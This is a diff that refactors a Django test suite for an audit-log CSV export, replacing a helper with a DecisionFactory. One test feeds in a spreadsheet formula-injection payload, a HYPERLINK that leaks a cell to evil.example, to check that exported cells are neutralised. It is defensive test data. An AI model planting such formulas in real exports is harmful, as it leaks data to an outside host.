@@ -22,9 +22,10 @@ from audit.export import BOM, EXPORT_COLUMNS, encode_rows, neutralise_cell, rest
 from audit.models import AuditCheckpoint, AuditEvent
 from audit.selectors import audit_event_batches, sealed_events
 from audit.services import audit_record
-from decisions.services import decision_answer, decision_create
+from decisions.services import decision_answer
 from organizations.services import api_key_create
 from tests.conftest import ALICE, BOB, client_for
+from tests.factories import DecisionFactory
 from tests.helpers import seal
 
 # The export holds sealed events (audit/sealing.py), and sealing links only committed ones.
@@ -55,13 +56,6 @@ COLUMNS = [
 def record(organization, *, at: datetime, event: str = "note.added", actor: str = "system", **fields):
     with patch("audit.services.timezone.now", return_value=at), transaction.atomic():
         return audit_record(organization_id=organization.pk, event=event, actor=actor, **fields)
-
-
-def ask(api_key, action: str = "Refund order #1042", approvers=(ALICE,)):
-    decision, _ = decision_create(
-        api_key=api_key, action=action, stages=[{"approvers": list(approvers), "quorum": "any"}]
-    )
-    return decision
 
 
 def answer(decision, address: str, choice: str = "approve", note: str = "", **extra):
@@ -113,7 +107,7 @@ def test_an_empty_trail_is_the_header_alone(auditor):
 
 
 def test_one_row_per_event_in_chain_order(acme_key, auditor):
-    decision = ask(acme_key[0])
+    decision = DecisionFactory(api_key=acme_key[0])
     answer(decision, ALICE)
 
     rows = export(auditor)
@@ -128,7 +122,7 @@ def test_one_row_per_event_in_chain_order(acme_key, auditor):
 
 def test_the_columns_of_an_answer(acme_key, auditor):
     """Who was asked, when they answered, what they decided, from where: one row says it."""
-    decision = ask(acme_key[0], "Refund €120 to Zoë")
+    decision = DecisionFactory(api_key=acme_key[0], action="Refund €120 to Zoë")
     answer(decision, ALICE, note="ok, checked the invoice", ip="203.0.113.7", user_agent="Mozilla/5.0 (Mac)")
 
     rows = export(auditor)
@@ -176,7 +170,7 @@ def test_events_without_those_payload_keys_leave_their_cells_empty(acme, auditor
 
 
 def test_a_note_with_commas_quotes_and_newlines_survives(acme_key, auditor):
-    decision = ask(acme_key[0])
+    decision = DecisionFactory(api_key=acme_key[0])
     note = 'Approved, "reluctantly".\nCall me first next time;\r\nthanks'
     answer(decision, ALICE, note=note)
 
@@ -204,8 +198,8 @@ def test_time_filters(auditor, three_hours):
 
 
 def test_decision_event_and_actor_filters(acme_key, auditor):
-    refund = ask(acme_key[0], "Refund", approvers=(ALICE, BOB))
-    ask(acme_key[0], "Deploy")
+    refund = DecisionFactory(api_key=acme_key[0], action="Refund", approvers=(ALICE, BOB))
+    DecisionFactory(api_key=acme_key[0], action="Deploy")
     answer(refund, BOB, choice="deny")
 
     by_decision = export(auditor, decision=refund.pk)
@@ -222,8 +216,8 @@ def test_decision_event_and_actor_filters(acme_key, auditor):
 
 
 def test_only_the_keys_organization_is_exported(acme_key, globex_key, auditor):
-    ask(acme_key[0], "Acme refund")
-    ask(globex_key[0], "Globex payroll run")
+    DecisionFactory(api_key=acme_key[0], action="Acme refund")
+    DecisionFactory(api_key=globex_key[0], action="Globex payroll run")
 
     rows = export(auditor)
 
@@ -233,8 +227,8 @@ def test_only_the_keys_organization_is_exported(acme_key, globex_key, auditor):
 
 
 def test_another_organizations_decision_id_exports_nothing(acme_key, globex_key, auditor):
-    ask(acme_key[0], "Acme refund")
-    globex_decision = ask(globex_key[0], "Globex payroll run")
+    DecisionFactory(api_key=acme_key[0], action="Acme refund")
+    globex_decision = DecisionFactory(api_key=globex_key[0], action="Globex payroll run")
 
     assert export(auditor, decision=globex_decision.pk) == []
 
@@ -302,7 +296,9 @@ def test_formula_cells_are_neutralised_and_can_be_restored(value, cell):
 
 
 def test_no_exported_cell_starts_like_a_formula(acme_key, auditor):
-    decision = ask(acme_key[0], '=HYPERLINK("http://evil.example/?leak="&A1,"Click")')
+    decision = DecisionFactory(
+        api_key=acme_key[0], action='=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    )
     answer(
         decision,
         ALICE,
@@ -366,7 +362,7 @@ def test_batches_cover_every_event_once_organization_by_organization(acme, globe
 def test_under_asgi_the_file_is_streamed_by_an_async_iterator_with_the_same_content(acme_key, auditor):
     """Under uvicorn, Django would read a synchronous iterator into memory before sending
     anything: the ASGI response must be asynchronous, and say the same."""
-    decision = ask(acme_key[0])
+    decision = DecisionFactory(api_key=acme_key[0])
     answer(decision, ALICE, note="ok")
     raw_key = api_key_create(organization=acme_key[0].organization, scopes=["audit"])[1]
     seal()
@@ -391,7 +387,7 @@ def test_under_asgi_the_file_is_streamed_by_an_async_iterator_with_the_same_cont
 @pytest.fixture
 def archive(acme_key, auditor, tmp_path) -> Path:
     """Acme's whole trail as a file, with an answer whose cells a spreadsheet would escape."""
-    decision = ask(acme_key[0], "=Refund order #1042")
+    decision = DecisionFactory(api_key=acme_key[0], action="=Refund order #1042")
     answer(decision, ALICE, note="-ok-", answered_by="@alice")
     seal()
     path = tmp_path / "acme-audit.csv"
